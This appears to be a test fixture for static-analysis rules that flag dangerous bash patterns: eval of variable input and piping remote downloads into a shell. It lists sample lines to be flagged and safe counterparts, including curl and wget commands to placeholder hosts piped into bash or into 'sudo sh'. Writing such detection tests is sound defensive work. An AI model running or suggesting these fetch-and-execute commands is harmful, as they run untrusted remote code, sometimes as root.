# ruleid: bash-eval
builtin eval "$x"
# ruleid: bash-eval
command eval "$x"
# ruleid: bash-eval
bash -c "$x"
# ruleid: bash-eval
sh -c "ls $x"
# ok: bash-eval
bash -c 'ls "$1"' _ "$x"
# ruleid: bash-pipe-to-shell
. <(curl -s https://a)
# ruleid: bash-pipe-to-shell
curl -s https://a | zsh
# ruleid: bash-eval, ruleid: bash-pipe-to-shell
eval "$(curl -s https://a)"
# ok: bash-eval
"${cmd[@]}"
# ruleid: bash-pipe-to-shell
curl -s https://host.invalid/install | /bin/bash
# ruleid: bash-pipe-to-shell
curl -s https://host.invalid/install | /usr/bin/env bash -s
# ruleid: bash-pipe-to-shell
wget -qO- https://host.invalid/install | sudo -E /bin/sh -
# ok: bash-pipe-to-shell
curl -s https://host.invalid/list | grep bash
